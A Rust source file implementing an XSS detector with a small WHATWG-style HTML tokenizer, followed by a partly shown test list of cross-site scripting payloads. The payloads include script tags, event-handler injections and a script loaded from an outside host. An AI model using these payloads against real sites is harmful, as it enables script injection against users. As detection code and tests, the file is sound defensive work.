//! XSS detector: decides whether an input, echoed by an application into a
//! page, would form markup or script there — with a small HTML tokenizer
//! modelled on the WHATWG tokenizer states, not a keyword list.
//!
//! Contexts tried, in order (the first finding wins):
//! - `html:text` — between tags (`<p>INPUT</p>`);
//! - `html:attr-double-quoted`, `html:attr-single-quoted`,
//!   `html:attr-unquoted` — inside an attribute value of some tag; the input
//!   only matters once it breaks out (`"`, `'`, whitespace or `>`), after which
//!   the rest is tokenized as more attributes of that tag and then as text
//!   (there an event handler must be a DOM event name or be written tight,
//!   `onx=…`: code such as `ONLRET = c::ONLRET;` has no other tell);
//! - `html:url-attribute` — the whole input as `href=INPUT` (a bare
//!   `javascript:` must be followed by code: "JavaScript: The Good Parts");
//! - `js:single-quoted-string`, `js:double-quoted-string` — inside a quoted
//!   JS string: a break-out quote, operators valid after a string literal,
//!   then a call, or after `;` an assignment;
//! - `markdown:link` — `[text](INPUT)`;
//! - `css:value` — `style="color: INPUT"`.
//!
//! What counts as script-capable structure (anything else — `<b>`, `<i>`,
//! `<a href="https://…">`, `<img src=… alt=…>`, `a < b`, `<3`,
//! `<john@example.com>` — is left alone, so a site may allow basic formatting):
//! - a `<script` start tag (also nested as `<scr<script>ipt>`, which a
//!   sanitiser deleting the inner tag turns into a working one);
//! - any start tag, even an invented one, with an event handler `on[a-z]+=`
//!   and a non-empty value;
//! - `javascript:`, `vbscript:` or `data:` HTML/script URLs in URL attributes
//!   (`href`, `src`, `action`, `formaction`, `xlink:href`, …), after entity
//!   decoding and with the URL parser's tolerance for leading controls and
//!   embedded tabs/newlines (`java&#x09;script:`);
//! - `srcdoc=`, `style=` (or a `<style>` element, or a bare CSS value) with
//!   `expression(`, `url(javascript:`, `-moz-binding` or `behavior:url(`
//!   after CSS comments and escapes are removed, and `@import` in `<style>`;
//! - `<iframe>`/`<frame>`/`<object>`/`<embed>`/`<applet>` loading a document,
//!   `<base href>`, `<link href>`, `<meta http-equiv=refresh>` (prefixed
//!   names such as `<x:script>` are judged by their local name);
//! - markup inside a quoted attribute value (one level deep), for
//!   mutation-XSS shapes such as `<p title="</noscript><img … onerror=…>">`.
//!
//! Deliberate departures from the HTML tokenizer, all towards flagging:
//! comments and raw-text elements (`<style>`, `<textarea>`, `<title>`) are
//! tokenized as ordinary text, because the page around the input may close
//! them; a tag cut off by the end of the input still counts, because the page
//! will close it.
//!
//! Bounds: only the first [`MAX_SCAN`] bytes are looked at; every context is
//! one forward pass (attribute values are re-read at most once more), so the
//! work is linear in that prefix.

use std::cell::Cell;

use super::Detection;

/// How much of an input is scanned (8 KiB). Markup past this point is not
/// seen: the bound keeps the cost per target fixed whatever the body size.
pub const MAX_SCAN: usize = 8 * 1024;

/// Attribute values containing `<` are tokenized again as HTML this many
/// times deep (mutation XSS hides markup in attribute values).
const MAX_DEPTH: u8 = 1;

/// How many `](` occurrences are checked as Markdown link targets.
const MAX_MARKDOWN_LINKS: usize = 16;

/// Pre-filter for the common clean case: every finding of [`detect`] needs a
/// tag opener, an attribute `=`, a call `(` / template call, or a URL
/// scheme (the engine skips it on a value without one, see
/// `transform::class::XSS_BYTES`).
pub(crate) const PREFILTER: [bool; 256] = super::byte_set(b"<=(`:");

/// Decides whether `input` forms script-capable HTML or JS structure in one
/// of the contexts listed in the module documentation.
pub fn detect(input: &[u8]) -> Option<Detection> {
    let s = &input[..input.len().min(MAX_SCAN)];
    if !super::has_any(s, &PREFILTER) {
        return None;
    }
    let has_lt = s.contains(&b'<');
    let has_eq = s.contains(&b'=');

    if has_lt && let Some(d) = Html::new(s, 0).data(0) {
        return found("html:text", d);
    }
    // After an attribute break-out, only a new attribute (`=`) or a new tag
    // (`<`) can do harm.
    if has_lt || has_eq {
        for (quote, context) in [
            (Some(b'"'), "html:attr-double-quoted"),
            (Some(b'\''), "html:attr-single-quoted"),
            (None, "html:attr-unquoted"),
        ] {
            if let Some(d) = attribute_breakout(s, quote) {
                return found(context, d);
            }
        }
    }
    if let Some(d) = url_value(s) {
        return found("html:url-attribute", d);
    }
    for (quote, context) in [
        (b'\'', "js:single-quoted-string"),
        (b'"', "js:double-quoted-string"),
    ] {
        if let Some(d) = js_breakout(s, quote) {
            return found(context, d);
        }
    }
    if let Some(d) = markdown_link(s) {
        return found("markdown:link", d);
    }
    if let Some(d) = css_value(s) {
        return found("css:value", d);
    }
    None
}

fn found(context: &'static str, detail: String) -> Option<Detection> {
    Some(Detection { context, detail })
}

/// HTML whitespace (the tokenizer's definition: tab, LF, FF, CR, space).
fn is_space(b: u8) -> bool {
    matches!(b, b'\t' | b'\n' | 0x0c | b'\r' | b' ')
}

fn trim(v: &[u8]) -> &[u8] {
    let start = v.iter().position(|&b| !is_space(b)).unwrap_or(v.len());
    let end = v
        .iter()
        .rposition(|&b| !is_space(b))
        .map_or(start, |e| e + 1);
    &v[start..end.max(start)]
}

/// `needle` occurs in `hay` (both short or bounded by [`MAX_SCAN`]).
fn contains(hay: &[u8], needle: &[u8]) -> bool {
    let Some((&first, rest)) = needle.split_first() else {
        return false;
    };
    // Jump between occurrences of the first byte (a tight `position` loop)
    // rather than comparing every window.
    let mut i = 0;
    while let Some(p) = hay
        .get(i..)
        .and_then(|h| h.iter().position(|&b| b == first))
    {
        if hay[i + p + 1..].starts_with(rest) {
            return true;
        }
        i += p + 1;
    }
    false
}

/// Printable rendering of input bytes for `detail`, capped so that a log
/// line stays short whatever the input.
fn show(b: &[u8]) -> String {
    b.iter()
        .take(32)
        .map(|&c| {
            if c.is_ascii_graphic() {
                c.to_ascii_lowercase() as char
            } else {
                '?'
            }
        })
        .collect()
}

/// Lower-cases a name into `buf`; `None` when it is longer than any name we
/// judge (such a name cannot be a known attribute).
fn lower<'b>(name: &[u8], buf: &'b mut [u8; 32]) -> Option<&'b [u8]> {
    let out = buf.get_mut(..name.len())?;
    for (o, c) in out.iter_mut().zip(name) {
        *o = c.to_ascii_lowercase();
    }
    Some(out)
}

/// What a tag can do, as far as this detector cares.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Script,
    Style,
    /// Embeds another document: iframe, frame, object, embed, applet.
    Frame,
    Base,
    Link,
    Meta,
    Other,
}

impl Kind {
    fn of(name: &[u8]) -> Kind {
        // In XHTML/XML a prefixed name (`x:script`, `v:vmlframe`) is the
        // same element once its namespace is declared: judge the local name.
        let local = name.rsplit(|&b| b == b':').next().unwrap_or(name);
        let mut buf = [0u8; 32];
        match lower(local, &mut buf) {
            Some(b"script") => Kind::Script,
            Some(b"style") => Kind::Style,
            Some(b"iframe" | b"frame" | b"object" | b"embed" | b"applet" | b"vmlframe") => {
                Kind::Frame
            }
            Some(b"base") => Kind::Base,
            Some(b"link") => Kind::Link,
            Some(b"meta") => Kind::Meta,
            _ => Kind::Other,
        }
    }
}

struct Tag<'a> {
    name: &'a [u8],
    kind: Kind,
    end: bool,
    /// The unknown tag an attribute break-out lands in (`<x a="INPUT`).
    host: bool,
}

/// Attributes whose value the browser treats as a URL to load or navigate to
/// (including SVG animation values, which can set `href`).
const URL_ATTRS: &[&[u8]] = &[
    b"href",
    b"src",
    b"action",
    b"formaction",
    b"xlink:href",
    b"data",
    b"code",
    b"codebase",
    b"background",
    b"poster",
    b"lowsrc",
    b"dynsrc",
    b"to",
    b"from",
    b"values",
    b"by",
    b"xml:base",
    b"folder",
    b"cite",
    b"longdesc",
    b"icon",
    b"manifest",
];

/// The tokenizer over one buffer: the input, or (one level deep) an
/// attribute value.
struct Html<'a> {
    s: &'a [u8],
    depth: u8,
    /// End of the `<style>` body already checked as CSS.
    css_checked: Cell<usize>,
}

impl<'a> Html<'a> {
    fn new(s: &'a [u8], depth: u8) -> Self {
        Html {
            s,
            depth,
            css_checked: Cell::new(0),
        }
    }
}

impl Html<'_> {
    /// Data state from `i` to the end of the buffer.
    fn data(&self, mut i: usize) -> Option<String> {
        let s = self.s;
        while i < s.len() {
            let lt = i + s[i..].iter().position(|&b| b == b'<')?;
            // Only `<` + letter opens a tag (`a < b`, `x<3`, `<=` stay text);
            // `</` + letter opens an end tag.
            let (name_at, end) = match (s.get(lt + 1), s.get(lt + 2)) {
                (Some(c), _) if c.is_ascii_alphabetic() => (lt + 1, false),
                (Some(b'/'), Some(c)) if c.is_ascii_alphabetic() => (lt + 2, true),
                _ => {
                    i = lt + 1;
                    continue;
                }
            };
            i = name_at;
            if let Some(d) = self.tag(&mut i, end) {
                return Some(d);
            }
        }
        None
    }

    /// Tag open: name, attributes, and for `<style>` its body. Leaves `i`
    /// after the tag (or at an inner `<`, see below).
    fn tag(&self, i: &mut usize, end: bool) -> Option<String> {
        let s = self.s;
        let start = *i;
        let mut j = start;
        while j < s.len() && !is_space(s[j]) && !matches!(s[j], b'/' | b'>' | b'<') {
            j += 1;
        }
        // `<scr<script>ipt>`: the HTML tokenizer makes one odd tag of it, but
        // a sanitiser that deletes the inner tag leaves `<script>`; read on
        // from the inner `<` instead. (`j` > the outer `<`, so the scan always
        // advances, and each byte of a name is read once.)
        if s.get(j) == Some(&b'<') {
            *i = j;
            return None;
        }
        let name = &s[start..j];
        let tag = Tag {
            name,
            kind: Kind::of(name),
            end,
            host: false,
        };
        if !end && tag.kind == Kind::Script {
            return Some(format!("tag={}", show(name)));
        }
        *i = j;
        if let Some(d) = self.attributes(i, &tag) {
            return Some(d);
        }
        // The body is checked as CSS but, unlike in a browser, not skipped:
        // the page may close the element before the input does.
        if !end && tag.kind == Kind::Style && *i >= self.css_checked.get() {
            let from = (*i).min(s.len());
            let close = (from..s.len())
                .find(|&k| {
                    s.get(k..k + 7)
                        .is_some_and(|w| w.eq_ignore_ascii_case(b"</style"))
                })
                .unwrap_or(s.len());
            // Later `<style>` tags before the same `</style` share this body:
            // reading it once keeps the scan linear.
            self.css_checked.set(close);
            if let Some(what) = css_danger(&s[from..close], true) {
                return Some(format!("tag=style css={what}"));
            }
        }
        None
    }

    /// Before-attribute-name … after-attribute-value states, until `>` or the
    /// end of the buffer. Judges each attribute as it completes.
    fn attributes(&self, i: &mut usize, tag: &Tag<'_>) -> Option<String> {
        let s = self.s;
        loop {
            while *i < s.len() && (is_space(s[*i]) || s[*i] == b'/') {
                *i += 1;
            }
            let &c = s.get(*i)?;
            if c == b'>' {
                *i += 1;
                return None;
            }
            let name_start = *i;
            // The first character always belongs to the name, even `=`, `"`
            // or `<` (parse errors the browser accepts).
            *i += 1;
            while *i < s.len() && !is_space(s[*i]) && !matches!(s[*i], b'/' | b'>' | b'=') {
                *i += 1;
            }
            let name = &s[name_start..*i];
            let mut k = *i;
            while k < s.len() && is_space(s[k]) {
                k += 1;
            }
            if s.get(k) != Some(&b'=') {
                // No value: nothing to run or load.
                continue;
            }
            let eq = k;
            k += 1;
            while k < s.len() && is_space(s[k]) {
                k += 1;
            }
            let tight = eq == *i && k == eq + 1;
            let (value, next) = match s.get(k) {
                Some(&q @ (b'"' | b'\'')) => {
                    // An unterminated value runs to the end of the input: the
                    // page around it will supply the closing quote.
                    match s[k + 1..].iter().position(|&b| b == q) {
                        Some(e) => (&s[k + 1..k + 1 + e], k + 2 + e),
                        None => (&s[k + 1..], s.len()),
                    }
                }
                Some(b'>') | None => (&s[k..k], k),
                Some(_) => {
                    let mut e = k;
                    while e < s.len() && !is_space(s[e]) && s[e] != b'>' {
                        e += 1;
                    }
                    (&s[k..e], e)
                }
            };
            *i = next;
            if let Some(d) = self.attribute(tag, name, value, tight) {
                return Some(d);
            }
        }
    }

    /// Judges one attribute with a value; `tight` when written `name=value`.
    fn attribute(&self, tag: &Tag<'_>, name: &[u8], value: &[u8], tight: bool) -> Option<String> {
        if tag.end {
            // Browsers ignore attributes on end tags.
            return None;
        }
        let mut buf = [0u8; 32];
        let Some(n) = lower(name, &mut buf) else {
            return self.nested(tag, b"?", value);
        };
        let n: &[u8] = n;
        let t = show(tag.name);
        let has_value = !trim(value).is_empty();
        // In a tag the input opened itself, any `on…` name is structure. In
        // the tag a break-out lands in, `ONLRET = c::ONLRET;` is how code
        // reads: there the name must be a DOM event or be written tight.
        if has_value && is_handler(n) && (!tag.host || tight || is_event(&n[2..])) {
            return Some(format!("tag={t} handler={}", show(n)));
        }
        if URL_ATTRS.contains(&n)
            && let Some((scheme, _)) = script_url(&decode_entities(value), tag.kind)
        {
            return Some(format!("tag={t} attr={} scheme={scheme}", show(n)));
        }
        let what = match (tag.kind, n) {
            (_, b"srcdoc") if has_value => Some("srcdoc".to_string()),
            (_, b"style") => {
                css_danger(&decode_entities(value), false).map(|c| format!("style css={c}"))
            }
            (
                Kind::Frame,
                b"src" | b"data" | b"code" | b"codebase" | b"archive" | b"classid" | b"movie",
            ) if has_value => Some(format!("attr={} embeds-document", show(n))),
            (Kind::Base | Kind::Link, b"href") if has_value => Some("attr=href".to_string()),
            (Kind::Meta, b"http-equiv") if trim(value).eq_ignore_ascii_case(b"refresh") => {
                Some("http-equiv=refresh".to_string())
            }
            _ => None,
        };
        if let Some(w) = what {
            return Some(format!("tag={t} {w}"));
        }
        self.nested(tag, n, value)
    }

    /// Markup inside an attribute value, read once more as HTML text.
    fn nested(&self, tag: &Tag<'_>, name: &[u8], value: &[u8]) -> Option<String> {
        if self.depth >= MAX_DEPTH || !value.contains(&b'<') {
            return None;
        }
        Html::new(value, self.depth + 1)
            .data(0)
            .map(|d| format!("tag={} in-attribute={} {d}", show(tag.name), show(name)))
    }
}

/// `on` + at least three letters: every DOM event handler attribute
/// (`onload`, `onerror`, `ontoggle`, `onbegin`, …), including ones that do
/// not exist yet, since browsers keep adding events.
fn is_handler(n: &[u8]) -> bool {
    n.len() >= 5 && n.starts_with(b"on") && n[2..].iter().all(u8::is_ascii_alphabetic)
}

/// DOM events (without `on`) that a break-out handler written with spaces
/// around `=` must name: the ones seen in XSS payloads and common elements.
const EVENTS: &[&[u8]] = &[
    b"abort",
    b"afterprint",
    b"animationend",
    b"animationiteration",
    b"animationstart",
    b"auxclick",
    b"beforecopy",
    b"beforecut",
    b"beforeinput",
    b"beforeprint",
    b"beforetoggle",
    b"beforeunload",
    b"begin",
    b"blur",
    b"canplay",
    b"canplaythrough",
    b"change",
    b"click",
    b"close",
    b"contextmenu",
    b"copy",
    b"cuechange",
    b"cut",
    b"dblclick",
    b"drag",
    b"dragend",
    b"dragenter",
    b"dragleave",
    b"dragover",
    b"dragstart",
    b"drop",
    b"durationchange",
    b"emptied",
    b"end",
    b"ended",
    b"error",
    b"finish",
    b"focus",
    b"focusin",
    b"focusout",
    b"formdata",
    b"fullscreenchange",
    b"hashchange",
    b"input",
    b"invalid",
    b"keydown",
    b"keypress",
    b"keyup",
    b"load",
    b"loadeddata",
    b"loadedmetadata",
    b"loadstart",
    b"message",
    b"mousedown",
    b"mouseenter",
    b"mouseleave",
    b"mousemove",
    b"mouseout",
    b"mouseover",
    b"mouseup",
    b"mousewheel",
    b"offline",
    b"online",
    b"pagehide",
    b"pageshow",
    b"paste",
    b"pause",
    b"play",
    b"playing",
    b"pointercancel",
    b"pointerdown",
    b"pointerenter",
    b"pointerleave",
    b"pointermove",
    b"pointerout",
    b"pointerover",
    b"pointerrawupdate",
    b"pointerup",
    b"popstate",
    b"progress",
    b"ratechange",
    b"readystatechange",
    b"repeat",
    b"reset",
    b"resize",
    b"scroll",
    b"scrollend",
    b"search",
    b"seeked",
    b"seeking",
    b"select",
    b"selectionchange",
    b"selectstart",
    b"show",
    b"stalled",
    b"start",
    b"storage",
    b"submit",
    b"suspend",
    b"timeupdate",
    b"toggle",
    b"touchcancel",
    b"touchend",
    b"touchmove",
    b"touchstart",
    b"transitioncancel",
    b"transitionend",
    b"transitionrun",
    b"transitionstart",
    b"unload",
    b"volumechange",
    b"waiting",
    b"webkitanimationend",
    b"webkitanimationiteration",
    b"webkitanimationstart",
    b"webkittransitionend",
    b"wheel",
];

fn is_event(name: &[u8]) -> bool {
    EVENTS.contains(&name)
}

/// Input placed inside an attribute value of some tag: after the first
/// break-out, the rest forms more attributes of that tag, then text.
fn attribute_breakout(s: &[u8], quote: Option<u8>) -> Option<String> {
    let html = Html::new(s, 0);
    let host = Tag {
        name: b"*",
        kind: Kind::Other,
        end: false,
        host: true,
    };
    let (mut i, how) = match quote {
        Some(q) => (s.iter().position(|&b| b == q)? + 1, q as char),
        None => {
            let p = s.iter().position(|&b| is_space(b) || b == b'>')?;
            if s[p] == b'>' {
                return html.data(p + 1).map(|d| format!("breakout=> {d}"));
            }
            (p, ' ')
        }
    };
    let how = if how == ' ' {
        "space".to_string()
    } else {
        how.to_string()
    };
    if let Some(d) = html.attributes(&mut i, &host) {
        return Some(format!("breakout={how} {d}"));
    }
    html.data(i).map(|d| format!("breakout={how} {d}"))
}

/// Decodes HTML character references as an attribute value would be
/// decoded: numeric (`&#106`, `&#x6A;`, leading zeros, optional `;`) and the
/// named ones that matter for hiding a scheme or a call. Non-ASCII code
/// points become `?`, which matches no scheme.
fn decode_entities(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len());
    let mut i = 0;
    while i < v.len() {
        if v[i] == b'&'
            && let Some((b, used)) = entity(&v[i..])
        {
            out.push(b);
            i += used;
        } else {
            out.push(v[i]);
            i += 1;
        }
    }
    out
}

/// One character reference at the start of `v` (which starts with `&`):
/// the byte it stands for and how many input bytes it used.
fn entity(v: &[u8]) -> Option<(u8, usize)> {
    if v.get(1) == Some(&b'#') {
        let hex = matches!(v.get(2), Some(b'x' | b'X'));
        let radix = if hex { 16 } else { 10 };
        let digits = if hex { 3 } else { 2 };
        let mut j = digits;
        let mut val: u32 = 0;
        while let Some(d) = v.get(j).and_then(|&c| (c as char).to_digit(radix)) {
            val = val.saturating_mul(radix).saturating_add(d);
            j += 1;
        }
        if j == digits {
            return None;
        }
        if v.get(j) == Some(&b';') {
            j += 1;
        }
        let b = if val == 0 || val > 0x7f {
            b'?'
        } else {
            val as u8
        };
        return Some((b, j));
    }
    let len = v
        .iter()
        .skip(1)
        .take(10)
        .take_while(|c| c.is_ascii_alphanumeric())
        .count();
    if v.get(1 + len) != Some(&b';') {
        return None;
    }
    let mut buf = [0u8; 32];
    let b = match lower(&v[1..1 + len], &mut buf)? {
        b"tab" => b'\t',
        b"newline" => b'\n',
        b"colon" => b':',
        b"lpar" => b'(',
        b"rpar" => b')',
        b"quot" => b'"',
        b"apos" => b'\'',
        b"amp" => b'&',
        b"lt" => b'<',
        b"gt" => b'>',
        b"sol" => b'/',
        b"bsol" => b'\\',
        b"period" => b'.',
        b"comma" => b',',
        b"semi" => b';',
        b"excl" => b'!',
        b"num" => b'#',
        b"percnt" => b'%',
        b"plus" => b'+',
        b"equals" => b'=',
        b"lowbar" => b'_',
        b"grave" => b'`',
        b"lsqb" => b'[',
        b"rsqb" => b']',
        b"lcub" => b'{',
        b"rcub" => b'}',
        b"ast" => b'*',
        b"quest" => b'?',
        b"dollar" => b'$',
        b"commat" => b'@',
        b"verbar" | b"vert" => b'|',
        _ => return None,
    };
    Some((b, len + 2))
}

/// If the (entity-decoded) URL `d` would run script, its scheme and the
/// offset just after the `:`.
fn script_url(d: &[u8], kind: Kind) -> Option<(&'static str, usize)> {
    let mut scheme = [0u8; 12];
    let mut n = 0;
    let mut i = 0;
    // The URL parser strips leading C0 controls and spaces.
    while i < d.len() && d[i] <= 0x20 {
        i += 1;
    }
    loop {
        let &c = d.get(i)?;
        i += 1;
        if c == b':' {
            break;
        }
        // Tab and newlines are removed anywhere in a URL; older engines also
        // skipped other control characters.
        if c < 0x20 {
            continue;
        }
        if n == scheme.len() || !(c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.')) {
            return None;
        }
        scheme[n] = c.to_ascii_lowercase();
        n += 1;
    }
    match &scheme[..n] {
        b"javascript" => Some(("javascript", i)),
        b"vbscript" => Some(("vbscript", i)),
        b"livescript" => Some(("livescript", i)),
        b"data" => {
            let mime: Vec<u8> = d[i..]
                .iter()
                .take_while(|&&c| c != b';' && c != b',')
                .take(64)
                .filter(|&&c| c > 0x20)
                .map(u8::to_ascii_lowercase)
                .collect();
            // An SVG or XML document runs script only where it is embedded
            // as a document; `<img src=data:image/svg+xml…>` does not.
            let active = contains(&mime, b"html")
                || contains(&mime, b"script")
                || (contains(&mime, b"xml") && kind == Kind::Frame);
            active.then_some(("data", i))
        }
        _ => None,
    }
}

/// Dangerous CSS after removing comments, escapes (`\65 xpression`), quotes
/// and whitespace, which old engines tolerated inside these tokens: an IE
/// `expression(` as a property value, a script URL in `url(`, or an XBL /
/// HTC binding. A `<style>` element may also not `@import` a stylesheet.
fn css_danger(v: &[u8], element: bool) -> Option<&'static str> {
    // A leading `:` lets a bare value (`expression(…)`) match like
    // `width:expression(…)` does.
    let mut out = Vec::with_capacity(v.len() + 1);
    out.push(b':');
    let mut i = 0;
    while i < v.len() {
        let c = v[i];
        if c == b'/' && v.get(i + 1) == Some(&b'*') {
            match v[i + 2..].windows(2).position(|w| w == b"*/") {
                Some(e) => i += 4 + e,
                None => break,
            }
            continue;
        }
        if c == b'\\' {
            let mut j = i + 1;
            let mut val: u32 = 0;
            while j < v.len() && j < i + 7 {
                let Some(d) = (v[j] as char).to_digit(16) else {
                    break;
                };
                val = val * 16 + d;
                j += 1;
            }
            if j > i + 1 {
                if v.get(j).is_some_and(|&b| is_space(b)) {
                    j += 1;
                }
                if val < 0x80 {
                    out.push((val as u8).to_ascii_lowercase());
                }
                i = j;
            } else {
                if let Some(&n) = v.get(i + 1)
                    && n != b'\n'
                {
                    out.push(n.to_ascii_lowercase());
                }
                i += 2;
            }
            continue;
        }
        if c > 0x20 && c != b'"' && c != b'\'' {
            out.push(c.to_ascii_lowercase());
        }
        i += 1;
    }
    let needles: [(&'static str, &[u8]); 6] = [
        ("expression(", b":expression("),
        ("url(javascript:", b"url(javascript:"),
        ("url(vbscript:", b"url(vbscript:"),
        ("-moz-binding", b"-moz-binding:"),
        ("behavior", b"behavior:url("),
        ("@import", b"@import"),
    ];
    let n = if element {
        needles.len()
    } else {
        needles.len() - 1
    };
    needles[..n]
        .iter()
        .find(|(_, needle)| contains(&out, needle))
        .map(|&(name, _)| name)
}

/// The whole input as a CSS value (`style="color: INPUT"`). A bare
/// `expression (…)` with a space is how prose reads, so here the call must
/// be written tight.
fn css_value(s: &[u8]) -> Option<String> {
    if !s.contains(&b'(') {
        return None;
    }
    let c = css_danger(s, false)?;
    let tight = s
        .windows(11)
        .any(|w| w.eq_ignore_ascii_case(b"expression("));
    (c != "expression(" || tight).then(|| format!("css={c}"))
}

/// The whole input as the value of a URL attribute (`href=INPUT`). Unlike a
/// URL inside injected markup, a bare `javascript:` must be followed by code
/// (a call, template call or assignment), so that a title such as
/// "JavaScript: The Good Parts" in a link field is not an attack.
fn url_value(s: &[u8]) -> Option<String> {
    if !s.contains(&b':') && !s.contains(&b'&') {
        return None;
    }
    let d = decode_entities(s);
    let mut v = &d[..];
    while let [c, rest @ ..] = v
        && *c <= 0x20
    {
        v = rest;
    }
    // The application may not quote the attribute; a quote from the input
    // then opens the value.
    if let [b'"' | b'\'', rest @ ..] = v {
        v = rest;
    }
    let (scheme, at) = script_url(v, Kind::Other)?;
    let payload = &v[at..];
    let runs = scheme == "data" || payload.iter().any(|&b| matches!(b, b'(' | b'`' | b'='));
    // A scheme split by tabs, newlines or other controls (`ja&Tab;vascript:`,
    // `java\tscript:`) was written to get past a filter: titles and prose
    // spell the word plainly, so no code needs to follow.
    let scheme_part = &v[..at - 1];
    let lead = scheme_part.iter().take_while(|&&c| c <= 0x20).count();
    let hidden = scheme_part[lead..].iter().any(|&c| c < 0x20);
    (runs || hidden).then(|| format!("scheme={scheme}"))
}

/// Markdown link targets `[text](INPUT)`, judged like a URL attribute.
fn markdown_link(s: &[u8]) -> Option<String> {
    let mut from = 0;
    for _ in 0..MAX_MARKDOWN_LINKS {
        let p = from + s.get(from..)?.windows(2).position(|w| w == b"](")?;
        if let Some(d) = url_value(&s[p + 2..]) {
            return Some(d);
        }
        from = p + 2;
    }
    None
}

fn is_ident_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_' || b == b'$'
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
}

/// Input inside a quoted JS string (`var x = 'INPUT';`): the first `quote`
/// ends the string (backslashes are not trusted to escape it, since the
/// application may add its own); then operators that may follow a string
/// literal, then a call or, after `;`, an assignment (`';alert(1)//`,
/// `"-alert(1)-"`, `');top['al'+'ert'](1)//`, `';throw onerror=alert,1//`).
fn js_breakout(s: &[u8], quote: u8) -> Option<String> {
    let q = s.iter().position(|&b| b == quote)?;
    let mut i = q + 1;
    let mut ops = 0;
    // Only after `;` can an assignment stand on its own (`'-x=1` is a syntax
    // error, and `", a = b` is how prose and code lists read).
    let mut statement = false;
    // The last thing read ends an operand (`)`, `]`, `}`, a regular
    // expression literal): a `/` after it divides.
    let mut after_closer = false;
    while let Some(&c) = s.get(i) {
        // Right after a string literal only a binary operator, a separator
        // or a closing bracket is valid JS (`"!x(a)"` is a syntax error);
        // unary `!`/`~` may follow those.
        let binary = matches!(
            c,
            b';' | b','
                | b'+'
                | b'-'
                | b'*'
                | b'/'
                | b'%'
                | b'|'
                | b'&'
                | b'^'
                | b')'
                | b'}'
                | b']'
                | b'?'
                | b'<'
                | b'>'
                | b'='
        );
        if is_space(c) {
            i += 1;
        } else if c == b'/' && s.get(i + 1) == Some(&b'/') {
            // The rest is a line comment: nothing runs.
            return None;
        } else if c == b'/' && ops > 0 && !after_closer {
            // Where an operand is due (`'+/x/`), `/` opens a regular
            // expression literal: one never closed on its line is a syntax
            // error (an e-mail address pattern quoted in a comment field).
            i = regex_literal_end(s, i)?;
            // Its members (`/x/.source`) belong to the operand.
            while s.get(i) == Some(&b'.') && s.get(i + 1).copied().is_some_and(is_ident_start) {
                i += 1;
                while s.get(i).copied().is_some_and(is_ident) {
                    i += 1;
                }
            }
            after_closer = true;
        } else if binary || (ops > 0 && matches!(c, b'!' | b'~')) {
            ops += 1;
            statement |= c == b';';
            after_closer = matches!(c, b')' | b']' | b'}');
            i += 1;
        } else {
            break;
        }
    }
    if ops == 0 {
        return None;
    }
    // Unary keywords in front of the target (`throw onerror=…`, `new Image`).
    loop {
        let word_end = s[i..]
            .iter()
            .position(|&b| !b.is_ascii_alphabetic())
            .map_or(s.len(), |e| i + e);
        let word = &s[i..word_end];
        let keyword = [
            &b"new"[..],
            b"void",
            b"typeof",
            b"delete",
            b"throw",
            b"await",
            b"yield",
            b"return",
        ]
        .iter()
        .any(|k| word.eq_ignore_ascii_case(k));
        if keyword && s.get(word_end).is_some_and(|&b| is_space(b)) {
            i = word_end;
            while s.get(i).is_some_and(|&b| is_space(b)) {
                i += 1;
            }
        } else {
            break;
        }
    }
    let (end, what) = js_target(s, i)?;
    if what == "assignment" && !statement {
        return None;
    }
    Some(format!(
        "quote={} then {what}={}",
        quote as char,
        show(&s[i..end])
    ))
}

/// The end (past its flags) of the regular expression literal whose
/// opening `/` is at `i`; `None` when it is not closed on its line.
fn regex_literal_end(s: &[u8], i: usize) -> Option<usize> {
    let mut j = i + 1;
    let mut class = false;
    loop {
        match *s.get(j)? {
            b'\\' => j += 1,
            b'\n' | b'\r' => return None,
            b'[' => class = true,
            b']' => class = false,
            b'/' if !class => break,
            _ => {}
        }
        j += 1;
    }
    j += 1;
    while s.get(j).is_some_and(|b| b.is_ascii_alphabetic()) {
        j += 1;
    }
    Some(j)
}

/// An identifier chain (`a.b['c'].d`) at `i` followed by `(` or a template
/// (a call), or by `=` that is not `==`/`=>` (an assignment).
fn js_target(s: &[u8], mut i: usize) -> Option<(usize, &'static str)> {
    if !is_ident_start(*s.get(i)?) {
        return None;
    }
    loop {
        while s.get(i).copied().is_some_and(is_ident) {
            i += 1;
        }
        match s.get(i) {
            Some(b'.') if s.get(i + 1).copied().is_some_and(is_ident_start) => i += 1,
            Some(b'[') => {
                // Computed member: skip to the matching `]`.
                let mut depth = 0usize;
                loop {
                    match s.get(i)? {
                        b'[' => depth += 1,
                        b']' => {
                            depth -= 1;
                            if depth == 0 {
                                i += 1;
                                break;
                            }
                        }
                        _ => {}
                    }
                    i += 1;
                }
                if s.get(i) == Some(&b'.') && s.get(i + 1).copied().is_some_and(is_ident_start) {
                    i += 1;
                } else if s.get(i) != Some(&b'[') {
                    break;
                }
            }
            _ => break,
        }
    }
    let end = i;
    while s.get(i).is_some_and(|&b| is_space(b)) {
        i += 1;
    }
    match (s.get(i), s.get(i + 1)) {
        (Some(b'('), _) => Some((end, "call")),
        // A tagged template (`alert`1``) is a call only written tight;
        // "x `code`" is how Markdown reads.
        (Some(b'`'), _) if i == end => Some((end, "call")),
        (Some(b'='), n) if !matches!(n, Some(b'=' | b'>')) => Some((end, "assignment")),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flagged(s: &str) -> Option<Detection> {
        detect(s.as_bytes())
    }

    /// Attacks: each must be flagged.
    const ATTACKS: &[&str] = &[
        // Classic tags and handlers.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script\n>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<svg onload=alert(1)//",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img\nsrc=x\nonerror=alert(1)>",
        "<img src=x onerror\t=\talert(1)>",
        "<img src=\"x\"/onerror=\"alert(1)\">",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<x onclick=alert(1)>click me",
        "<input autofocus onfocus=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
